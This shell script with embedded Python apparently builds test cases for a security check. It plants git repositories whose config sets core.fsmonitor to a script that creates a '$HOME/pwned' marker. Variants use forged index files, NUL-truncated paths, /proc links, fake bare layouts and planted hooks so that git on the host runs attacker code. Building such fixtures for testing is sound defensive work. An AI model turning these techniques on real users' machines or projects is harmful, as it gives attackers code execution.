# Plants a repository with settings of the attacker that git on the host enters on an indirect path.
# $1 names the attack.
evil=$PWD/evil.sh
printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
monitor() { printf '[core]\n\tfsmonitor = %s\n' "$evil"; }
# Makes a repository with one commit in the folder $1.
made() { git init -q "$1" && git -C "$1" commit -q --allow-empty -m one; }
evil() { made "$1" && monitor >>"$1/.git/config"; }
# Names the folder $1 in the index as a submodule.
named() { git update-index --add --cacheinfo "160000,$(git -C "$1" rev-parse HEAD),$1"; }
# Writes the index $1 in version 3 with only these entries: octal mode, id, name.
index() {
    python3 - "$@" <<'END'
import hashlib, struct, sys
path, words = sys.argv[1], sys.argv[2:]
entries = sorted(zip(words[2::3], words[0::3], words[1::3]))
text = b'DIRC' + struct.pack('>II', 3, len(entries))
for name, mode, id in entries:
    name, mode = name.encode(), int(mode, 8)
    flags = struct.pack('>H', len(name))
    if mode == 0o40000:
        flags = struct.pack('>HH', 0x4000 | len(name), 0x4000)
    entry = bytes(24) + struct.pack('>I', mode) + bytes(12) + bytes.fromhex(id) + flags + name
    text += entry + bytes(8 - len(entry) % 8)
if any(mode == '40000' for _, mode, _ in entries):
    text += b'sdir' + bytes(4)
open(path, 'wb').write(text + hashlib.sha1(text).digest())
END
}
# Writes .git/index in version 4 so that only a git that reads it by several threads finds the
# folder `new`. $1 names the trick.
threads() {
    python3 - "$1" "$(git -C new rev-parse HEAD)" <<'END'
import hashlib, struct, sys
way, id, file = sys.argv[1], bytes.fromhex(sys.argv[2]), bytes(19) + b'1'
def entry(mode, id, length, removed, rest):
    return bytes(24) + struct.pack('>I', mode) + bytes(12) + id + struct.pack('>H', length) + bytes([removed]) + rest + b'\0'
def extension(name, content):
    return name + struct.pack('>I', len(content)) + content
def tables(start, blocks):
    """The two extensions with the table of blocks and with the end of the entries, `start`."""
    table = extension(b'IEOT', struct.pack('>I', 1) + b''.join(struct.pack('>II', *block) for block in blocks))
    return table + extension(b'EOIE', struct.pack('>I', start) + hashlib.sha1(table[:8]).digest())
names = [b'a%03d' % number for number in range(7)] + [b'b' * 4200 if way == 'names' else b'b', b'']
text = b'DIRC' + struct.pack('>II', 4, len(names))
starts, last = [], b''
for number, name in enumerate(names):
    starts.append(len(text))
    if not name:
        # A reader that knows the previous name reads a name of 4,203 bytes here. The field for
        # the length says 4,095 or more for both.
        text += entry(0o160000, id, 0xfff, 0, b'new') if way == 'names' else entry(0o100644, file, 2, 0, b'c')
    else:
        text += entry(0o100644, file, min(len(name), 0xfff), len(last), name)
        last = name
if way == 'names':
    text += tables(len(text), [(starts[0], len(names) - 1), (starts[-1], 1)])
else:
    # The tables and the last entry are in an extension that no program knows.
    hidden = len(text) + 8
    submodule = entry(0o160000, id, 3, 0, b'new')
    content = submodule + tables(hidden + len(submodule), [(starts[0], len(names) - 1), (hidden, 1)])
    text += extension(b'ZZZZ', content)
open('.git/index', 'wb').write(text + hashlib.sha1(text).digest())
END
}
# Moves the repository $1 into a deep folder, and names that folder in the index. Only a relative
# path to its `.git` is short enough for one system call.
long() {
    id=$(git -C "$1" rev-parse HEAD) && name=$(python3 - "$1" <<'END'
import os, sys
left = 4093 - len(os.getcwd())
names = ['d' * 200] * (left // 201 - 1)
rest = left - len('/'.join(names)) - 2
# The name of a file has at most 255 bytes.
names += ['e' * (rest // 2), 'f' * (rest - rest // 2 - 1)]
top = os.open('.', os.O_RDONLY)
for name in names:
    os.mkdir(name)
    os.chdir(name)
os.rename(sys.argv[1] + '/.git', '.git', src_dir_fd=top)
print('/'.join(names))
END
    ) && index .git/index 160000 "$id" "$name"
}
case $1 in
long) evil new && long new ;;
threads-names | threads-tables) evil new && threads "${1#threads-}" ;;
dot) evil new && index .git/index 160000 "$(git -C new rev-parse HEAD)" ./new ;;
climbs) evil new && index .git/index 160000 "$(git -C new rev-parse HEAD)" "../$(basename "$PWD")/new" ;;
absolute) evil new && index .git/index 160000 "$(git -C new rev-parse HEAD)" "$PWD/new" ;;
worktree) evil new && index .git/worktrees/elsewhere/index 160000 "$(git -C new rev-parse HEAD)" "$PWD/new" ;;
work-tree)
    mkdir other && evil other/deeper && made new
    index new/.git/index 160000 "$(git -C other/deeper rev-parse HEAD)" deeper
    git -C new config core.worktree ../../other
    git update-index --add --cacheinfo "160000,$(git -C new rev-parse HEAD),new"
    ;;
work-tree-nul)
    # git reads only the part of the path before the NUL.
    mkdir other && evil other/deeper && made new && named new
    index new/.git/index 160000 "$(git -C other/deeper rev-parse HEAD)" deeper
    printf '[core]\n\tworktree = ../../other\0/../new\n' >>new/.git/config
    ;;
pointer-nul) evil new && named new && mv new/.git hidden && printf 'gitdir: ../hidden\0/x' >new/.git ;;
sparse)
    made new && mkdir new/a && evil new/a/deeper
    (cd new && named a/deeper && git commit -qm two && git config core.sparseCheckout true)
    index new/.git/index 40000 "$(git -C new rev-parse HEAD:a)" a/
    named new
    ;;
foreseen) evil new && named new && mkdir other && echo 'gitdir: ../new/.git.held' >other/.git &&
    git update-index --add --cacheinfo "160000,$(git -C new rev-parse HEAD),other" ;;
foreseen-link) evil new && named new && mkdir other && ln -s ../new/.git.held other/.git &&
    git update-index --add --cacheinfo "160000,$(git -C new rev-parse HEAD),other" ;;
no-settings) made new && named new && mv new/.git/config harmless ;;
linked-settings) made new && named new && mv new/.git/config harmless && ln -s ../../harmless new/.git/config ;;
settings) rm -f new/.git/config; cat harmless >new/.git/config; monitor >>new/.git/config ;;
root) evil . ;;
bare-root)
    git init -q --bare /tmp/bare && cp -r /tmp/bare/* .
    git config -f config core.bare false && git config -f config core.worktree "$PWD" && monitor >>config
    ;;
bare-files)
    printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n' "$PWD" >config && monitor >>config
    echo x >objects && cp objects refs && chmod 755 objects refs && echo 'ref: refs/heads/main' >HEAD
    ;;
bare-commondir)
    git init -q --bare other && rm other/HEAD && echo other >commondir && echo 'ref: refs/heads/main' >HEAD
    printf '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n' >other/config && monitor >>other/config
    printf '[core]\n\tbare = false\n\tworktree = %s\n' "$PWD" >config.worktree
    ;;
# The pointer leads to a clean repository if git works in the root, and to another if in `sub`.
by-proc)
    made clean && mv clean/.git g && made sub && mv sub/.git sub/g && monitor >>sub/g/config
    printf 'gitdir: /proc/self/cwd/g\n' >sub/.git
    git update-index --add --cacheinfo "160000,$(git --git-dir=g rev-parse HEAD),sub"
    ;;
clean-beside) made new && rm -rf new/.git/hooks ;;
evil-beside) monitor >>new/.git/config ;;
beside) evil new ;;
beside-closed) evil new && chmod 300 . ;;
assumed) git update-index --assume-unchanged file && echo evil >file ;;
skipped) git update-index --skip-worktree file && echo evil >file ;;
hooks-link) rm -f .git/hooks && mkdir .git/hooks && cp evil.sh .git/hooks/pre-commit ;;
folder-of-hooks-link) mv tools old && mkdir -p evil/hooks && cp evil.sh evil/hooks/pre-commit && ln -s evil tools ;;
link-removed) rm .git ;;
hook-in-store) cp evil.sh .store/git/hooks/pre-commit || : ;;
program-link) rm -f tool && cp evil.sh tool ;;
worktree-module)
    at=.git/worktrees/elsewhere/modules/sub
    mkdir -p .git/worktrees/elsewhere/modules
    git clone -q --bare "$(git config -f .gitmodules submodule.sub.url)" $at
    git -C $at config core.bare false
    mkdir -p $at/hooks && cp evil.sh $at/hooks/post-checkout
    chmod 300 .git/worktrees
    ;;
module)
    git clone -q --bare "$(git config -f .gitmodules submodule.sub.url)" .git/modules/sub
    git -C .git/modules/sub config core.bare false
    git -C .git/modules/sub config core.worktree ../../../sub
    mkdir -p .git/modules/sub/hooks && cp evil.sh .git/modules/sub/hooks/post-checkout
    ;;
*) exit 1 ;;
esac
echo done
